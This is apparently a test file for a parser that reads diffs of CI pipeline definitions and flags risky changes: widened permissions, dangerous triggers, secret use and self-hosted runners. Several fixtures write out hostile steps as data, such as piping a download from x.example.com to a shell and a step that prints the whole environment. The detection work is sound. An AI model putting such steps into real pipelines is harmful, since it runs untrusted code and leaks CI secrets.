// Patches: what a few lines of a definition, or all of a new one, say.
import { describe, expect, it } from 'vitest';
import { readPatch } from '../../../services/collector/definitions/patch.ts';

const WORKFLOW = '.github/workflows/ci.yml';

/** A diff of one file, with its headers. */
function diff(path: string, ...hunks: readonly string[]): string {
  return `diff --git a/${path} b/${path}\nindex 0000000..1111111 100644\n--- a/${path}\n+++ b/${path}\n${hunks.join('\n')}\n`;
}

function created(path: string, text: string): string {
  const lines = text.trimEnd().split('\n');
  const body = lines.map((line) => `+${line}`).join('\n');
  return `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,${lines.length} @@\n${body}\n`;
}

function words(patch: string): readonly string[] {
  return readPatch(patch).flatMap(({ delta }) => delta.words);
}

describe('lines without anything around them', () => {
  it.each([
    [
      '@@ -40 +40 @@ jobs:\n-      uses: actions/checkout@v3\n+      uses: actions/checkout@v4',
      ['actions/checkout: from v3 (tag) to v4 (tag)'],
    ],
    [
      '@@ -9 +9,2 @@ permissions:\n-  contents: read\n+  contents: write\n+  id-token: write',
      ['permission contents from read to write', 'adds permission id-token: write'],
    ],
    ['@@ -3,0 +4 @@ on:\n+  pull_request_target:', ['adds trigger pull_request_target']],
    ['@@ -3 +3 @@ name: CI\n-on: push\n+on: [push, workflow_run]', ['adds trigger workflow_run']],
    [
      '@@ -20 +20 @@ jobs:\n-    runs-on: ubuntu-latest\n+    runs-on: [self-hosted, x]',
      ['runner from ubuntu-latest to self-hosted, x (self-hosted)'],
    ],
    ['@@ -30,0 +31 @@ jobs:\n+          token: ${{ secrets.NPM_TOKEN }}', ['now uses secret NPM_TOKEN']],
    ['@@ -30,0 +31 @@ jobs:\n+    secrets: inherit', ['now uses all secrets (inherit)']],
    [
      '@@ -30,0 +31 @@ jobs:\n+          curl -s https://x.example.com | sh',
      ['a script now pipes a download from x.example.com to a shell'],
    ],
    [
      '@@ -30 +30 @@ jobs:\n-        run: make\n+        run: make && env',
      ['a script now prints its whole environment'],
    ],
    ['@@ -5,0 +6 @@ on:\n+  push: # all of them', ['adds trigger push']],
  ])('%j', (hunk, expected) => {
    expect(words(diff(WORKFLOW, hunk))).toEqual(expected);
  });

  it.each([
    '@@ -30,0 +31 @@ jobs:\n+          push: true',
    '@@ -30,0 +31 @@ inputs:\n+    description: curl https://x.example.com and sh',
    '@@ -30,0 +31 @@ jobs:\n+          issues: write down what is said',
    '@@ -30,0 +31 @@ jobs:\n+      # uses: acme/tool@v1',
  ])('that only look like something say nothing: %j', (hunk) => {
    const [patch] = readPatch(diff(WORKFLOW, hunk));
    expect(patch?.after).toMatchObject({ triggers: [], permissions: [], uses: [], scripts: [] });
  });
});

describe('lines with others around them', () => {
  it('count what is new, not what stands around', () => {
    const hunk = `@@ -10,6 +10,7 @@ jobs:
     steps:
       - name: Install
         run: |
           wget https://old.example.com/x
+          wget https://new.example.com/y
       - uses: acme/tool@v1
 `;
    expect(words(diff(WORKFLOW, hunk.trimEnd()))).toEqual(['a script now contacts new.example.com with wget']);
  });

  it('keep their numbers', () => {
    const [patch] = readPatch(
      diff(WORKFLOW, '@@ -10,2 +20,3 @@ jobs:\n     steps:\n+      - run: env\n       - run: make'),
    );
    expect(patch?.after?.scripts).toMatchObject([{ line: 21 }, { line: 22 }]);
  });

  it('that are moved are not new', () => {
    const first = '@@ -5 +5,0 @@ jobs:\n-          curl -s https://x.example.com | sh';
    const second = '@@ -50,0 +50 @@ jobs:\n+          curl -s https://x.example.com | sh';
    expect(words(diff(WORKFLOW, first, second))).toEqual([]);
  });
});

describe('a whole file', () => {
  it('that is new is read as what it is', () => {
    const text = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n';
    const [patch] = readPatch(created(WORKFLOW, text));
    expect(patch).toMatchObject({ delta: { status: 'added', partial: false }, after: { jobs: [{ name: 'a' }] } });
    expect(patch?.before).toBeUndefined();
  });

  it('that is gone says only that', () => {
    const patch = `diff --git a/${WORKFLOW} b/${WORKFLOW}\ndeleted file mode 100644\n--- a/${WORKFLOW}\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-on: push\n-jobs: {}\n`;
    expect(words(patch)).toEqual(['removes the definition']);
  });

  it('that is no YAML is read line by line', () => {
    const [patch] = readPatch(
      created(
        WORKFLOW,
        'x = {\n}y: {\n  - [\non:\n  workflow_dispatch:\njobs:\n  a:\n    steps:\n      - uses: acme/tool@v1\n',
      ),
    );
    expect(patch?.after).toMatchObject({ partial: true, uses: [{ name: 'acme/tool' }] });
    expect(patch?.after?.problems.length).toBeGreaterThan(0);
  });
});

describe('other systems', () => {
  it('are read from their lines too', () => {
    const gitlab = '@@ -1,0 +2,3 @@ build:\n+  script:\n+    - curl -o i.sh https://x.example.com/i.sh\n+    - sh i.sh';
    expect(words(diff('.gitlab-ci.yml', gitlab))).toEqual([
      'a script now runs a file that it downloads (x.example.com)',
    ]);
    expect(words(diff('.circleci/config.yml', '@@ -9,0 +10 @@ workflows:\n+          context: production'))).toEqual([
      'now uses context production',
    ]);
    expect(
      words(diff('Jenkinsfile', "@@ -9,0 +10 @@ pipeline {\n+        sh 'curl -s https://x.example.com | sh'")),
    ).toEqual(['step sh now pipes a download from x.example.com to a shell']);
    expect(
      words(
        diff(
          'config.xml',
          '@@ -9 +9,2 @@\n-  <assignedNode>a</assignedNode>\n+  <assignedNode>b</assignedNode>\n+  <command>env</command>',
        ),
      ),
    ).toEqual(['a script now prints its whole environment', 'runner from a to b']);
    expect(words(diff('.travis.yml', '@@ -9,0 +10 @@ script:\n+  - bash <(curl -s https://x.example.com)'))).toEqual([
      'a script now pipes a download from x.example.com to a shell',
    ]);
  });
});

describe('a diff', () => {
  it('of many files gives those that define pipelines', () => {
    const patch =
      diff('src/main.ts', '@@ -1 +1 @@\n-a\n+b') + diff('action.yml', '@@ -1 +1 @@\n-a: b\n+uses: acme/x@v1');
    expect(readPatch(patch).map(({ path }) => path)).toEqual(['action.yml']);
  });

  it('may be renamed, without headers, or cut short', () => {
    const renamed = `diff --git a/.github/workflows/a.yml b/${WORKFLOW}\nsimilarity index 90%\nrename from .github/workflows/a.yml\nrename to ${WORKFLOW}\n--- a/.github/workflows/a.yml\n+++ b/${WORKFLOW}\n@@ -1 +1 @@\n-on: push\n+on: fork\n`;
    expect(readPatch(renamed)).toMatchObject([{ path: WORKFLOW, previous: '.github/workflows/a.yml' }]);
    expect(readPatch('@@ -1 +1 @@\n-on: push\n+on: fork', WORKFLOW)[0]?.delta.words).toEqual([
      'adds trigger fork',
      'removes trigger push',
    ]);
    expect(words(diff(WORKFLOW, '@@ -1,9 +1,9 @@\n+on: fork'))).toEqual(['adds trigger fork']);
  });

  it('may hold lines that look like its headers', () => {
    const hunk = '@@ -1,2 +1,2 @@ jobs:\n--- a line\n+++ another\n         run: x';
    expect(readPatch(diff(WORKFLOW, hunk))).toHaveLength(1);
  });
});
